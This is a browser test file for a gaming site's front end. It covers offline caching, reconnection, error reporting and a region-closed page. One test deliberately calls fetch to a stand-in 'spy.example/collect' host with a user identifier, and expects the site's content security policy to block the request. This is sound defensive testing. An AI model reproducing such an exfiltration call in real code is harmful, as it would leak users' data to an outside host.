import { expect, open, siteCached, test } from '#testing/browser/fixtures.ts'

/** The brand with the strictest policy: Trusted Types, and no vendor in the page. */
test.use({ brand: 'totofa' })

test.describe('without a connection', () => {
  test.use({ serviceWorkers: 'allow' })

  test('the brand’s own page is shown at any address, and reloads as soon as there is a connection', async ({
    page,
    context,
    pageErrors,
  }) => {
    await open(page, '/')
    await siteCached(page)
    const kept = await page.evaluate(async () => {
      const names = (await caches.keys()).filter((name) => name.startsWith('site '))
      const requests = await Promise.all(names.map(async (name) => (await caches.open(name)).keys()))
      return requests.flat().map(({ url }) => new URL(url).pathname)
    })
    expect(kept.filter((path) => !/^\/(assets|locales|brands)\/|^\/any\.html$/.test(path))).toEqual([])
    await context.setOffline(true)
    await open(page, '/promotions')
    await expect(page.locator('html')).toHaveAttribute('data-brand', 'totofa')
    await expect(page.locator('main[data-page=PROMOTIONS]')).toContainText('You’re offline')
    await expect(page.locator('header img')).toBeVisible()
    await expect(page.getByText('Reconnecting')).toBeHidden()
    await context.setOffline(false)
    await expect(page.locator('html')).not.toHaveAttribute('data-offline')
    await expect(page.locator('main[data-page=PROMOTIONS]')).toHaveAttribute('data-state', 'ready')
    pageErrors.length = 0
  })
})

test(
  'errors are reported, and a closed region replaces the site',
  { tag: '@always' },
  async ({ page, sandbox, pageErrors }) => {
    await open(page, '/')
    await page.evaluate(() => {
      setTimeout(() => {
        throw new Error('no mail for ada@players.example')
      })
      fetch('https://spy.example/collect?who=ada').catch(() => undefined)
    })
    await expect
      .poll(async () =>
        (await sandbox.errors()).map(({ kind, page: at, message }) => `${kind} ${at} ${message}`).sort(),
      )
      .toEqual(['error MAIN Error: no mail for [email]', 'policy MAIN connect-src blocked https://spy.example/collect'])
    await sandbox.fault({ method: 'GET', path: '/api/promotions', kind: 'status', status: 451 })
    await page.goto('/promotions')
    await expect(page.locator('main[data-page=REGION_CLOSED]')).toContainText('Not available in your region')
    pageErrors.length = 0
  },
)
